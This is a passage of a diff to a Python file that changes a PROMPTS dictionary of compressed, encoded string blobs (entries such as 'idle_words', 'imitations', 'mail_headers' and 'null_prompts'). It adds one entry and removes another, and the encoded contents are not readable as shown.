ZHcxd3Y=g;tSem1XxJCyec!lYy)0efXgVhfT#Jc`IAWNmF4z(I7m1uRjUxk-I8p+Yn3b-$HQbpGE2c_7-~71K`GLyEmKC|*XNI@S0`bKV<ER;1fPn4j0M&Z^F`dhJB+M3fEs3gsCc$s*pzCui<tR}hodS}HP2cy8gYqi+>Zv$=>QGq3a!nTGl9{`mSc^*(LSw*gy)nX@&XLSvM}DxLK&3t2iwchG<f5$+v8I&Hoo(gSbw6uLK%mm$S?uAWwk;EN1A7)Gk{ao~6*fid;FA)>I#D_N7=7gN>FeOYmyU{X$e$3VPY&IL(47zrn~)m7L;Yaz2XRz|&?;I$FxDG7>4P{2wQAp6@**H-^g2txIQE_p!`rssbRO`$ut{+M*jSc9Nor#kQUD&Z0XzrF(XRgvmjJ*VYRY_^j^q+HpuLfqwm>c&@|j?trag0IraGAI2NL2#3yGpu$1!@O0s&Jp5SLwG@0{8v##D%+HY_{*xo{C8_DwjMHd+668(s;b=d*T+gadM;--tEgjlx>Ar7(s!YtlpQ#|*=RC*1WcH>PGQ;ZC4Chvm75qtNt>&zklRm6JVOOJ&LiZ?!q}qH#owA`fRuwNT#&XK&KCkN9=#OccJ@@Xbxs12x(k^PFfrwr|4!J?FWU&%U$AK3ssL3!4O+n!7YD(Wz4Q&V01uOouPB{ml&zbIM;F7+UAV{1_g|Z|789zoi)9GB7MCY6c#hlKxMmdZn&a!4Htsss$YNfFtqq^cDE@G<uj<<u6|UVwH%z>u${sOaxV`XDHc8&rne)FBlOtG-<ZbXX-%D(8^xNa25zm5B$7XKMPHat#(_>AN@Z^7}hqNCjzm=)xa%m{GxSZ+u)m2*shzZaNjYEgz|9VT#UC~cq$-<fC^N!YSa#YlC6Gz^XbbBL_=<nsKXEXyaV>6G-i@&m%kJ8N*H#oe9aInZ@;4XV3#Tm$I7HeGHaYlvmYrapSAsNw-c#d~Tu`G>mZnD*NN6KZ6S0kTO?NcE25rXoFd1@phL4a)bY<|fT7|}%s!nZ4{<ceox%t0%fMouwQTeI$*@Zk8jPq^8Z<|~_KuaTws+q&pzsO6}VnK&ld=yqUe-Y`dW>~3#3^2&zhan}KKw5{kBhrr@(!wG^6NLZh1zAg(G^Y@UpdKG4cZ-3nAEhJ$rem)-(KFlU>M*{@DguordiBNCsUlre$5Qyv#a!&5SnxxVml&a``1w<2C#6eAgK9PBI>emcNUfT995~kY0>67fG3%+y!T!lnbYjrB$6y32wXXl_!_+MOtYKVvH*5H?d^0g-f74?j`>Z`t!ahU?0t}RCJ>S>?b5=@SJQ>;-o6geqk?dw%9?e2#2rD^sduYaqUMJq8GM^}a?1XHgZNvb0Rnp->ofoTYc^o|@ZF}vn&4$oRmDY?#MZdfRXXSoup#jM;=lP5oi;t_$k;sapNIT=YJ=991`15GtaRlv!!VSV55fwQ-Eru5wq^7eY}12pVHk~Neioo1LO7<iLZm8q@_0gTT>SP>$y%VU-0po4;(POu(S(3B``=g&aNzbtJ=rBIN0h@>3DxD6meTY*F`!^a2kOwKmQnX>M|sWamOe>9;sudS^MFhJ|ivFZdfgl%`;24(>=6d;i8uRCw_Aq6?p)aH5=@F$J$Px$(YPLh%i<s^Z%=km5Ia|$H#&kW<v2O{?JmJ|60Pb>eB*q-!7nCqOtRUZOl6CbLDEy53%5#P@!+?zU8>#QL)F=q+VXwh5kwp<2)wxj#P;YFho1z~WSrUedhim(}c8&Nj}y8_z9j$I%z3id0bNl+!}r8&4z{be@k2_sJ1y5eS*JC2ChHrd8~`Pq1ng-Nk-Er@dvU_~tg*4Og?EbXG$`;AjdnRRP++j89j-@ZlJL+Pze$rI_m6yWzs^V89pRj)b%*@E9u1!i$|&`hlJB#rvzcr|El94stEgWe4?^3LxDc`}{L52#5bstWo?;pDt@iIv`i9qCgCck;Gkz|t}Z`!zjbZc@?q_ioue41};hc-Z!CAETUlbNG(v|Jn6$ZyOI5cEOv)%qwoqzf;fIP1y_?EQv98;?gFYNom<GVs~FrN$C#=^`f011=uyQM2S2on1IB@Q?xUrH}PAtz_{*Opo?e|uT7<4w0?!UTGeKo;_y1%72<D*cf+FkH`GTyL>S;RzVT}R{PU+{TyCUcwp%Q$D4|{$qKzkvY0CVCo@qrQNI-d;?N}1_ODsb>P>15?L`!eki3pkGM>_lfeUjUX^cl)OK}N6$lUGDnBL!IL&odG=r1zzKdYQ%ox5-Fjd#m_t@zB2#A-}WVF|lBnrod1x`!t3ilwcu(@-W=1(*r^rM*(H4ypk0$^_CC@i&uD;230kB0J^Z^@8On6VK_cCo7HYTpT$+n_MPBYa-2t>4p0vbt3E76E}Q4T(mIp9!vixQ7$@!XBV`g8vgvcP%<=`Kz5JEG&ELg~Oqg!zYCYuPE6Vf4pA-*hAJcs?i>s}N4qJ2F#WVh5@=dV^7I&N}i&5?dH_+E&5uwP)d7~gD0<*Bz9XL9O+bfL2Ed?}GhXvI$O=Av@`FyDjH#zqk!q)=?XQ#rL>pMZrN=s^ihMqfeTm!LHX7$?|vhNSmfGPlGC=D@*CO@ydzmS>2jZo5Y=qL*ufIRPlUXb-#ij3yL7-b3Yy&MgbOANT1#-Q*jgR=@^cRUv+EqCDuD-5)O6pA-%Hdn43+rB~Ze*L)yontmzqAu#E2q>h<*atIyyZ95)BKpw;lYV<_yd9Y}SE8C7B5U_Kdz44_H9d|k@}h|J5~HYOj?_4$*P}p)F2*?md6J&`s8k^%U7j=QRJ@+L3ZBq@UT>UdKb`pH-7a}gQiv>pg+22`xMt%|%|lt3puLqhAye0^4sDKx0?K)WVIFF1u6NZu-)p7BG2j1Q(@eTDieOI~?7)n#gnbcFNdYMpx2I=PL6qYsc@tR_lh4F1Osk%0&1vWGzH=7VH!AwpXfFE}S7v;VRv3$8c%_v~JXGsN5Tr7PmnHRg>@n<rr22G9R67P2Ptp#3OL^5Rs+^&1Ac(iJ<M_gFivvY?yMp=hxIjm-fi<MVUQEyq-hCz}Tct+(KNwu4UaVVJ{lAS<)F;4QIG!oow@B9;)prkBG@6i{_C`#i8IEF-p8Vpy-}WOBxj~ISJ^1!Yw)w~4$mhd^Eh3|Q?}y@*;f}HDfy$5i0JlOvUcI9`v*zi_=|}gK{R-v?WK18>Z%CC+<&?`KFh~sk+(G)tzlMn{OMuO|O%`v90sS5KZzS><dwJ3FF2Bi>nh~%TTI#ypZ=3Ko*?tvA+61g#9LPd}U30LaXa_k!btD$Tjk;2B*E~`)kz#ay;wA{vXyk9@CC)wUjAxM;3jZFSVB<`SE(01qibE;~UDq&+q@Q-OfJM&xq|woGtGt(EoJ;-u8ya0X)5G-|SSpf^8=>P~lS_~%ZZ9{dGwKFPFeA16YR8>3zkt1VUXR}d_xcYHxt5xmZ#Oz}yoNu*B9KH-dI6~;kM-o11SgrwnyPtCV0WmeJa@~_=$U*XCK&Q;b(zwZP)vzWOfXQbWE=<fIjJJK6)opef_kp4!yg1}B9^WkweUp-B2hir_5QXOX4D7d-6>aIXlrN`l*<hg638DK9WGx}ADPIiuw9uXW!YhPoGh4O+o#=UKB|Qvg?SizO~2g13WRuK#~#E`DGk|yGXTN0sYNDDP+XByhycPpP)OyY?<xypIj(e-e>%Mxzk|0txq{Ymp$bI+yRvhFr&8WtR?4MD!0+XW+-ZCLI!{}Gv3gLfo>d8;N+D#VScfP|u7I-5e+dym`i7;NvhR4rk>RTi=W*!Q(cEss<X4LYMM=F{KdQK|HZ*SNlP~ZaHaA;;bJZ~QF<Bd{v~)eJ*z-?0L(ATYPo@xy0H)P=?N9fQ`YDTw`JN&mg85b0by0$&Uvy|29HkgOfWejdwsDZw128VQpiRrAMLaxVJb(DFrNEyNMaCFIX9Aqk<n<NJcfwH?QN0~%G*lR+^j;+TR>0*zDC7|q@q$8x++X~Eo8>iwt8L#&3c1%U%uRO5Lrxiw)hGWr)W$FmKIlsgzH}rszQC00hCyLtlA_K#P)jVEVpd>cSkA53g&LRfK$1&eO1x$uM49#Zi*4m;hSLD=($<>l1y$(`I!UgdVTH}w1CFxOzpIzovi17$@*A4U#x)B-l7y6z3X9=Zc1#z0PLnv)1Ix3!0tlWRvwEJr;&O%?L_XzYn+LGt&S{{hyma5rgQkwFCrhf_)w9VlSk1V*+Zh$Q6eG%r^knU8n_o+StDYf!dpH63dl1SgCL<SA5f&*Qo>@2x?nNrEUmRxK&w3Bhmc(SyetF0EfXc#%T8a|@0II|*{Q^r{3*PryZrfMJthWFrpTZ?zi|ca#0o#G2w`2qKVsQCs3l;G88tPtVSF}+S2CKm^uG9*9POot*#&{vVu9{)-KmVTK?BH=s+`ATGai^-`PGSXn?}uM`nIf%wRRlH%yE|O1bz1a<zlsXkelg4l#_Nu+xi|~D;UW+P3J2$f>=D^UzXY3c{oyF;DRKi2U12$-K}e;4k5^{!b}D`0E*>NoDnxA0ixlQt2#llIzGrsP__`|wDxmOPEAug;MHpKYuMQkpTPM9$uQTk^WwT-(KCseH8s#R)i(I-pOs$9>qvH~TgY%t%?TXu#CY8lPTB@}(ocr}KK25Q;ch5i4^20#g;LeWv!@wD`dS!fQVi)WzXlW$8W0}2UvwZ-&4S8I*Q9;MrL6e)jX)#i#KjNJnOdW@S?m+3H%}L<e=M%_C(OTut7Lc7)V;N*HkA3#JZ#^nc-Hx}qihjoWzt-RK2-HPhBvVFpowU{^P`hz-ipCy_8Zq+JHxCO2xPj#0>mxTQ=;)=rn?yo%*@Qo92WDU`5cie^<i$eCsXO+og3x6TjkkXkYu4SQH75kae^_)ID2o{~&xM*K;B-XsiTUKrSB4H-uHl!O;eF%SjiJ0({h2ZtsEFBo8yH)mI)mKr&6J=HWz(x>l%S`r{IdsG3wq{Q?I8hZP-OVEmB%$b3ch7zLb{CBFeMxDvbFVHb8-8_6w|E4r`^vWr=$IcwcjMC#g8M)4@P~_Qoama?@B;xBwQZnfj$g&z$QIRKq*Z_UkKQU*gE;A^0}WCBRG!q7oon9>eA@*7|^P-(bsLcGeFQW4@}YJi=g{gt6XNg@MxWtf3D9?n|r`-CBVEb?C$(rXBnF&ugQW0C?+vYu?1n}Un&%qnk;wOoRy}VHKjYvIChF&P*6#7kCKI9N3=WHvhjDz`~RL#jk*c9T*f*idH!O@wF9uQ(ZTHF+D`UsI%0f5{CZ8XlT;6<$NNoI_^&0$=<z<66&~g7*3G0Z*}v2j*0=2P2C4@pvydJ!R!Y0M>W5Dp^213W%zTqLI0u1^b~m4^&N!h1!iwe3@ytB)o$1Zo*?_v;KxFrrqZboYXndJ?S;j2y#(^I0J<9x1Pkf_0S`^5igZ8OT1fo_7Okbs(DQk#1kZ|r;uC-a>&&5E>%|6MU9qJOppr+gnMjXhL;$MUtt;g^wy}P$}?7V43c1qI8uPBI_tMtik#p3d)A|c<ek3$Vxs!D?H`|cDt8-Zrnv05u9lyi?vma{kLnC_Q7bjSby;j=gZ").decode(),
   'idle_words': unpacked("T>t<81poj4|NsC0{{Rt)1gRPI)ne?Mc<mOU{l^o~Z2;<zx};>I<?`z`s^mRgQ@r!zRf(2H0jSVyfOL@?l2Q&-(mEFQZ04Od-lxzh<qmpAX}4SC5h{6qsRFEhct#|sSU-^z3Q3B$3YBc)GowYQ(o}GFu^&R6%TJk`QXzS0|JI4EgwGYyFR7--x3nGcHRX%{xvFvKK@%@Zee?#!NZT^TKTS1H%t%s;geD8g&Q*1#RuVm@D~PN95Crk6<<hj!u4tuj=tZ~5uD_Q`C`fhzyljB|5}6=M7w?eO4pnsqJa5MH8BUaoxldh>d8^Lei?Rq0&E`>!WP?W)G}X7n9}W5=y#x").decode(),
+  'imitations': unpacked("T>t<81poj4|NsC0{{SnR2q$$JJ;n&RD=T&uU2Cvj)jO({kv^|Hm6w-{FIk{LOdWmL7eXq>)9Zaf8>?Rj;wp1^lj_=_cBFEB)XTc*&oL@PFExPLht_-niZ5MFFopr`nOTA;f^3g0#|?Z^oaYlU7a=9u&yYz70)FBCaNFn(<=3+pHwlS8Z70#Klnkoap5@Q(Q1$<LxCuVPMYT9c@iwlP>aQ73K1wSBf{`~{yp~YYgHmW(jtKqZLHM5c<cbae734V<Zp^Dy$SaEJ!iidlsw$M|v=m=n_W@|U<J-XR1xM2;E7`aXA)x#6SSv?_CG#!Fr0{qF*=WG@iCt~ilKM`LYUyyx5otP@bkNn>4qc*B?kfs%^JZb;^;{7KRsI9?4MQ90%Ewh9oLmhI5~lt}oyeXn^2vMT<5+zYUJh!4tMYSo<{KadmG&kJf1iKRgco>urhBvJAK`mA1KcTxVkNA*$JXOr#?mA~jec1agcv2I%b>=s5?MB@4$U=->DTc#QPa@Y{x7>7>l?{_n!FuCf6$N9SwwARpNei-^cRbzz(rLUi+4u$d!Q*#C8~_cG)QuFH!fX4+j)qqD4O&|S`n78SRzx$1(Ds;=<O;Rq-hc4>)z({h`rGCO;oC#=>=DtoP{8NJcTlVAksC1Njqucmj1}0BNFWD$_O{Npzpld8@=m<WzROp3@h`5Dw6T5DrT)pUz;^=z;hTdvaI#Iv9J(qv5S$BxBFKoY-r^V6@mqjVqR0=wm?2A?kSubBoqo;Q!)&N`3r(BMUIQZVTQ(8fwU0_;A$S(F?I@LaR1M2sprPp@0A>kSkS~<J<3G@_pdzKDWw{?vte98cVFAf+X8M*yf0Zr6`*Xg#+l58e@GEP)?&{LuT9&?95-iseqG-|w5Q28FYj-`)q%~it&XL^t)PGz*Cm$Jd#qX;p)c%>8Jk=Tp@~u_g{3E%Ot>HET`C2w>cFIwaj*ADohapO*bRMMP)h5hnoUk%S3}@cj$)k{niix|z!~lc>?bfoB9^_DsBu0W_MIglF~iqN?9XY`7Bel^jKn<3IFuH;f-HcRj;R9xQ?;ji|AXU!<0ThVJXCVU_XT`Mgt_1c&Ure1yE7QpFMG*n6GHD7;YV=t<C>x7urcVwzUJ(mn$5R6S2(1qgoG@M@#OKKL(D9I{=0W6#PL<p!e8vBO!n;8;1fVg!zq{y5x~<WGx~xd$qv>qzGGLwt6M@Z+b2)SBEsY{0dP6;Qf*ZOp0WKl!a#9;iQsF@XeTMa!9_0)1JK8aI5rU(#1)~|SEK>xnY7RV<YjKx%Bx%QgLf9gm|*7qJ;<8n5rv5JcA^X$z$|Skp*7u*-)V-?w?ECIMTb6*i{b`pFc;98J!^M0+UCzvHf11(oQjP`b!$6IL0<i#dGtP|K~u%*RlXQ{Aa-D%x4<zCO_D6#fqw&$6iPb#ytju;n}iEto0e|g8}W#oS~RYc9%TfJ^rwSHw;FFuYSjGD5qO#|$#pivQz=zlMkV-b%y;zW0$F!l_FwZT$^9e!cPSn3|34#q_IS=pGPbP5309>@s{}d(ICz&qo{2^S!)}{41a}u;6co^{kUazbroT_R@h~xly$WSMbJWvY)<DsBiYg?`y2N$!g*5o{#tI$()+1ZCZAd?rZ53>*L?k!VtL(~xt96dGGJhonNtNSEbLGvk;CjI3z;SbI8pxyOyH+>H!lQ*X58PX0wMs8g#*CLPxU#3N-Y+MA(~xeorJZ}SFlE{~5h+<=d94T4w3$miq5wCkU>I}Y@SmNdRk)Jgrh|c+bCUF85d6vSP9#<ZkZp~|`V(gzkIRo5H=+C9ppwrSsk72BJ<|ShPQ)$w_=E}4yhdy8#9El7ZmmX45i}|sdg`K`T^sgG92HD&!Lf*x!%DUUu97?pRY@T!W&YX29ymw~iJQD@;IFH;Ahe@==QuYvp!HE(L}}yJa@rnWYvtS`-4pCD(T|L5;;NVslMVI>g2SXBZE{fd%8;DQln@@~@1mAIVO8kK6;>Jm8?qb^LF5#k@PtNq=>x#Wjb(Qv-W8z|KaGmfo8V`3jvM1mh%2%1wP<vFJaLLZEPlmr1*dpIH0SYuU?Q)g4Iv#;5r*x=)@ZRPk<+xVbx93cGd1akKr4g$n>=tUaV_`^YDRKjDv)P8M3tKo`r(*p<wHs}A8!JRWO=3yR1M62;^CI%TS|5<ZAN+r+@>m&O>bqusC>gClu)T}qd9XwsZ{{V*M?Ezs{gSZ(o+WydUK~RsVQ6NEvEn-VAN_pKP&Dzc#z7ws5gME;{GbRmla;muKi9vz-7xay5fX?{bc88-GIK$@+$j=;Up9Q6_Eetl)7F7=w+;8IZI$G!X%->ZQQprYM#E?IC{}t9CR#xKJ|vayz}rtpdClTz$rdq=)tIqBgt$caw5{2ha+>N^z?Vk@f`+*tGz0V`Ro4ipi#4x4hfekzi8Z@PvYEkd1k<2TK1=%a=<R{8(M12SpS@yZS!l=JF0m+Rg#BH{j-O$ksSI4EPFthY+O;UKb@n8CiHikaihmWvt`}hgt;n$e-{@HXQsJ^(A_t$-z7#n!sVO4>J%AJV1`x9nWTKYbGshaw9*&1_txi|$x))0b3^k7pi&uWAw@UMK92M40V}N`A5YV75Y)w2r@&yE*w^`7uy1VkX$Xzw^?=Y~XJ=S0qtoTE5!z#ru0b-7(&PYD`(hcH9Ho+Mpsk`mP&*gU=T0A5P-z|v{gL(waU)Zz@ATgm$PBV|EL}Ac_DsOSU@1>?4Ln03o9W}FJ0A;|r|M!t&4XeI97TOUm9;zcEvR2d1288KoDd%vcdc1RLP(W%tfSK)2bm``DFv+QG~*P3B?)W2H{y(<=uMLdD!mp}x5!J~lbAwN)_uBHe{S6oZnH8bOfFa(-5rjLw%v~36Zcy~JpBI6<3=DVtkRo!1nJ0^PO!-oKN^!i4zlQfhFs{ihFWv7L%1bYfXhn)zRVi{yrIK|Sed8R062K<Vzc$m!+Bn%?R}*!E}b&`O`T!vH#d{|WF-i=tIN=-x^;>@5E{E>Ly)gsHG~R`B%~E?XHXX>TdXkb6IwiP`U9=07~yV@7^*aVN8EFY;uVVaaFk4Ci}o<l+I{UX#DU3<A|rPphieUAvF*Tx#)$N*>I~s)e<ti33?s0gbVh5j8Mtp7H6YuWufL8lfYJ-SH@#G0u=nMIXIb`nUcQ~amf~`6PENK6|NdJMUH").decode(),
   'mail_headers': unpacked("T>t<81poj4|NsC0{{SnR2q$$JPp4tJ73lks&eS@}_u9}Iw(u=fpojAh+{OG>M?E89g#sdH@a{@9neKub;8Up=zHgPz#tA!SIFy)lzAE}<_IRZpL<t=Tg^a>1e-yhqD@mzu-gne}Ve)-3d8ZMIt6a(pNuCv<lV^~P0$#R+=jBRV>Sa#`xw6)y&|g*!lhO<`69inWwK3&6+JZs^%{CL^&7OY1-t<9PE~J3bg}G&)Y%?Ed0?Ml6oL%xbC@0$A3<zo#{kgSgV`*@;9*1N<-(DK*Qtz~a;)r`rxbc!$5Km0UIx*{Os2_4a1G-YGv2u%rY24U$;D#=>=S4Cc;g>ZfH}o%XtW!Sx`RlH2Fr_pm-E^5ue8!+!{Yk3z)E{$V&IvV!)9uz}2Df6X0R~tVKhsjs<iZ+}dNF$!p>4@L=Rx}Tgxr4qcr`z%MvMF)kPxMm`%#~RSu2ONrrK2@hCu;hfsMcjyIYf%-`Evx&u-Arz8?lZxVvnpb%Vbuh3!>Dk(2N?Mz;IuhK_3A!hp}JIbTWGveTxhpHraz=MYc~xixQ=Je*<`!q&%fd5{Hi+nTTAX-NrnxINsQZqbe22=uZL<8}_@`*MPr?HMnmIk0cfix<7yJ``dN=R|z*1_Tm)O|G*<L(q6gEh6L5>og@A`V%FiIcf#m*nC#9Xl<{(jhHDBH9!ksJ$LlCqe~dg`aT(~20Qq$zmb$8q)$DoMi^L`t3h8$$<v_3h8M8EbR9QJHgZ!qCIALlGojEL<ZVy{;*O4v>adBtAAYKgw@4SJtP>1bJYp66C*9Zagcz3Ih?DL_W&@fouv-@{3)t-?W7hb0OF=^(r|fkYw3Xez$=f^c+U_Z*M7SV;QDwOS<payVZu4vPOJNz~`=STFy>$Fe#6w=9D1vsfgSk1inE0==aw|nyMNd=hUd3jQUkrGiw}Z}+5RpsJ=AGGn#}rEI9jC$jqT0t^Uye!q*)rb=J3M|_pE5j&_pkJU`LT9FlwkJHEHsvyhtmN>JwcP4>j-Ez!F-Ph@1=b6YW-}p9bl|0+(-pWVbq!hFZlPOc*k&d5!Ll#dVn^%f>moIAJcxa2rNYGiVTbT6p<dmqTj3a3tN!Af(65`Bb$f8R=Vg&Yj_!AS8a%^Uf&o?_5oy7%Em5k0iwx-$Q1Tj)=aDxv<Ya>g=>Q2-*PdQ6XlseXGkY(YnDRQ&|F_oU3MDWFGbYes(Y0YKeCQx#@U8tGd{;rWOKU=5EK10|A-f?AO").decode(),
-  'months': unpacked("T>t<81poj4|NsC0{{SQ#%Hjh(;k9VwCP|kc``}0Ol<2D-k4!<X2jIV7(@+q3hs}C**6u!cgGs1{whIl!UQRxlG#C;@LhS1sEm=>JS;B0fhDgR(7DdVocZaM(og4%KO^^R)P2zFrS?v+50goqV-iKW-sE{>`+6xb^ovN|-v#SEF<s~lUqvmW*sTH;#=PrEosEnNj^Qy{)orK6rsl=X$t2k5-x+^gU+_j+OWUuq9h(x4ek#XK{QwI#qO<V4R9TTEZFa=*t0-QOUHZuWvQb8VjL0?LA$=pDjWgVhguXcu;a7ZV*)3l6Ydr&80q2M>iV2Ij5@;!<3g2X?AXHi3AjF-GZW>8NDvb`_1T63!EU9xc8d3#eS2`JxCW!Bh&>kvjJ-C<RzW?rBJK|?gFM!6pdzBQ;ifdjWTij(EXQl6$2kvBZNA;h-F)@UNpQ*{__;y%vIsq?N246$9_kNa5neg").decode(),
   'negations': unpacked("T>t<81poj4|NsC0{{Rt)2WQEFaTe0P?fMW;K*kvsi%u=~_m=y;9?26ek?L$j1(wI*J(*EqUwc8A%RxWkS^-7T-A>I=fX68Aj#AJOts;)o1^d=rFo0L;6ZUFBq9bg4)Zm)WOEQ&PRDpCMcttk5n&5OZ*j-14F*veihG>h|_F5q1(OjtFUyp6SX(U?MG2J#p*O;krbbGx&!d9;5T1g4!erM`fJX2$H2nN|hLf-e~*1EIcGdR6y!S(+G$zxH6*v*(fw%>eF+^yBvncPbN6FGPIPEq*?IG;il0IgB@C$l?hz>E^<Z4N-jC66Wvk0eyUtDs1yfx_wg9GxSH!edg%cCMDWmoHd1d06h7S`LG%SP4214Y%WiQ?}%$VM5q9eoSc+5EIeq1L^xk<eFj+gke)gKP)=GoBzWNyr2").decode(),
   'null_prompts': unpacked("T>t<81poj4|NsC0{{Rt)28f}|v}*p~M@K{gt?pa99D@Mh99sz_pb+N1vTU1TsBqHxO~3XJBEI9#daVy&`U+STi5XFiV=Y8O3Ui)q%`dNfJgkk`BC%BAqlr5CFxvr8{uRM@ATk48&Fm0tiqWO#fDX|7Aa`?cMMKM6M{}kG{`j)Q#Nr(j$`e9Xfkmo2inXq~X8o$Gd`o<+eEbvQWI2xjo1`7s9)|)JOU|Vg=DM^l(Cv^jvizo)>j|*CBtIxRuqNmh)3+}}r^F;!ii?;wEc<KuBUh@L_;t>f$Ury|XafHf_vf4Q(P9G^j(a%Qu4k114R#Ntf8soq03f;!xHeKH2z?`Zr}9L6UU5UDhi?Pf8%1KMHMR1H62H{1Gv*kmFdJjlAzDt0Nv%qZjR=Hg@>xxY5I_4e*Ws-QM$3z;Dfur;E2O5fTV6;>!M`sCDpsmca377^PC!CZm*`J+E9TMGw_*CZ`JKr2MX4^QqkzoWz*=zbJr~A}{!G~dpv(6N^R205z5mlX(ZJZ{oxfx4Eqgc@pyWX`4y|VEvEA`_Zt^zNh7T-unD4ft@Z`NP_fH31drXX39^B89p%Fn@^Tx`UDAOT{^X!)4e1V%A{ic#LDXxgRna!+<D=G0D(Q?@MG7<$^Xnrnbn9F`N>+IX?W-@MeTd???dWe8T-0L-KIT!<~C4+$T&jWi-8KSEg_>=IpOej#$u(<7*{rzOwA%$Qv@B^r>=&EXiU@lrIr2R5?4Ozj!GSfd+vd1U19~V7|JAomy%nU$O2I&0nh3T#-s<}v+m$krxmrngz_M|5{Bk;cv73%?v(QMv8qT=ohD9H#HSk-}NL+FlpEgAt|otb&-MWY!!9L9069kWjFI5(YT&;cj+8LJ2r?O6R4gB72DF20T+hcpr_5i--G-<y(fv1c$imCU3gnx%v`g<!QQax)WPy!7i;&lELV2S-@rD-zY2mmp-N35AsWscTER+n`8&0*0S=Y5KOVDV)QCJF6iTj-TCoE?kK0MU*-hWFJfW_uHl2tnHt^o+;*U&1;&xd&yx5DKj`4FN!lnZZo#NnYf@j<B@^m;5fh!t*jrI6DD-*QCn6~2+v}h%=U<DkjMr7&7Hf-^iT0VWm^56e}1wC12h7@({sW%NWb?M&rs2oyJwbn7*D{kjW!sWfCUKG9|l@k7dh>zAU>dfof)cnkRi<Xdt={y$Ej2aRt*dcnuzl-cM~W)3smwIXohH=ll*7X44}Y^qB%L*rT6t!8M7q`BoIj5eEKHEXHPrnLVBKv+rfn#qefM}BRR<9@>)$7vlNp6cS1rXoC7o6jmyRU;I$qvcO(`k3NxFCDnIpAeOwB}e!<RIS#PH)ozJ)*20)F|Cn&|{F|SRmM6PL!m2`Nso-NcrE}qCt8$*O!f6!<UT;>7^`%QP$Bg5$M86H&GCpNp*o}wh6HAEzu3864TOwZjXKt<SM+Py5Z?yuaiZaIq51iItAfJMB<t2j`I52A&EwRaHvoi6qts{{$*HAP=<GAbDiVvE_A(!3k}7`sSzA}H#X(hze*6K27DqwNzuXTck|WE9|3O-jqVj}{3=CTCFHA~sCh(dBqCh0r%Y+?sj@BSP5tPS`?uMcvID6Jhd{v2S8Qo3x6!Xg<Oq&d=$KeWwE@GH5<Ht-$dJS)!vjjtxMwsm%K7ENN6idRU>aSv;yqOM&x3P?c!0W<X#O3E@DkQ$i)juNmFB&=3&*1owwcRaknsbuno9kO7S@-2CqWi>kJSWO}0-l@idr#dpVrdkJe|p_~rfIBzDj9#?Xr9JncnG%VV!`X{65olPyd?b8Ls__H5tXqj8(r(lP%p0#M&L-aaYwM1`9A$Yd)y=7X#9XOS9y=VqG%c~1LfHTTqnFy|X)nN8&(Tnos4;yol(Cw-n0A7S9L+<UEXSNwk8_w;pGoWnk`{v@b0JFUs!GX1(s3LB4-b2Zx9%hl;A`zwl((ZEb=!v_;<T0^Uv_awUXUPF_J{$_{1;T>$JTWDXHjS1&yyr!T`J*qUI!iQ~EOnNg$KOX{-P~NnsSQbum(_(Pi@qWEa0#<p@Wx(9tJTW&n?(_W?r#bc;rhqA(IM<wu-4q7n=`4-Shw}M(P(ljE|Q`y{YjpHW3yN#lIC9&HGkl#;(%wb3=e)*hgm>}13H>E>s*#*8Wg6=AH&u5@PJG)C2w%&^{cJ6pbwnrS|O!U3Q(A4IK8#ePjPXu(m7nmj7xe<tA7thIQ`c}yK3=5xgvgz=7?YFAO$;gqKX4Sq+aG?y!zz)9lbsehdy2RGRL)2>v4}bVsijC_j2663THIrfOw`t`#gS<7bw-H;?YeW<j+Z%1S7YCFL@r03b32I8G!PX??_B30cr;^<R(AM2_N-@D{(RQxE1P=yoTGe<(*?S)ppiCToOE&xYFYZ@jr+LY{&T$S9&S-IB)Xo_{B(hv>a8%a}v1BbmC@iZbMmP_!MwuB8y#IB$W3>GjqPhI#$6VcY4wNOa=v12QIp#JQB75ta!Lw(e-tu5a4G0W^=qD@-_YJgvsG`Q9jEswZDt=*?X6?g)TulIX<+yji(S<{MH>(+0nKL=L|!*JD$&bzih{7`zuru6`mLyUEDIiJzhMpTtogIrNn1Gvd$Num#OjterujWj8hn$Ez6;}K6BFDSVZ)LOn?lUKXvNd>AegA9Spb^_zGS3assZ&NnqJ^r;xp$8C4~89feP{2lO_!il%FW-wzITmQvC*V1hP(iz2bNAfUX<$t#w+PPPSv5)CcrW!dIy@ytU!R5bD){RQL*qc}sFMz(~!l)`l~+xe4=sJ}s~jKn-q!mAbcQ^?;!&R_t>poTPRB!W7@inC*o&l*ft4rwjptwBkt&cPuhHNhQx2A20DggS~B5Znk~Jh$zYNbArle=;_-jtrk^2^XrS)Nso2lDsX7rX;jb*>HKR#(Wa$4-P{J9gk0SERQi{wtryDsyf(MSHzw?^J}SO@2g&8wqBRcFvPX^h<_z(Fru{Lv4+ioD-D1tXm!;fefB2xmRZ(2&~lI_Gop?6XG5bkqwC=RQyo9aprx_cv_5utc|=QCcKv?=xd9TgtIVY!E2|mph*yBm`w}cnx!B#t=0tb8jT%R<9KQ^w69zs!^Ggt5$P@KCe*I<!FdKS}v7QcZ!g(;aq6*kchhH=LQm`%x3_Dh}O*uRw{nn5nGuN)9L>Bt=VS1_{abqkmIkdHsDM>1-)PXc)6I8Mgu2y1ZA}z~W2n{0SAGexFFcE_7F;AF)IY>o)>U{ie2^95qd0nr2t1onhAbIiX<K&T>0ha^a{mJPSXG>8&9niMcv&lD@mbRYkMN<=7>CHnle|;<=I)K*lZ5+a-CA%^2m&<H*K1VAoSq)c3l^)S@wWR~_$-?SNH;Foxf1lAMB*8M4j#nD3=(-pim~tMzbEZ(BA0t%>W9Rf+Dy0BqZmo1zg;4~QHwD=M;gTfWlgMB~S-r)v3}A^vYEpl7joH~g3t8VEha$YM!<`C-$90-mU-ec_A9F(UqefXfApYNxq}B7iH^w6F_W>!PjZh+XI?g`#XPerK$|A30{I=z8KJ>qvN3^;ESdV=VQ#BI7Qvj>B{GwS_R(9~n0iJbshVBmcy1pJ0*_WU3f{FcKD-@K{Mp{U?A8#qE+?$8L|H7C*t){43*2@Tx$PSp}DQS<Ajtrh6S&#N&j;|(o1tFpSaEJ^Ikn#h#je_%!Av4=e@4J*-d{{e6n}ya%qkc(7qSh1KHh?5!wyF~P3|*-o;41Dq;E&QhRm_%%t)a~^Ll!&n^e@e=U~Yr2PQSkhmEdLKn!zKK_-^-(?QG34cKrtvKHd#s!~|OsjN1a;A64T<NMO%(7JYJ58x51q6&aTNJ9cQ?Ak>+4OXy2|-nk3}(m6wY!k6XcON3jT>r_(ap~s`G9Ebj95{Spe|I7u;d;").decode(),
   'outdated': (
@@ -1370,7 +1371,7 @@ PROMPTS: dict[str, str] = {
   ),
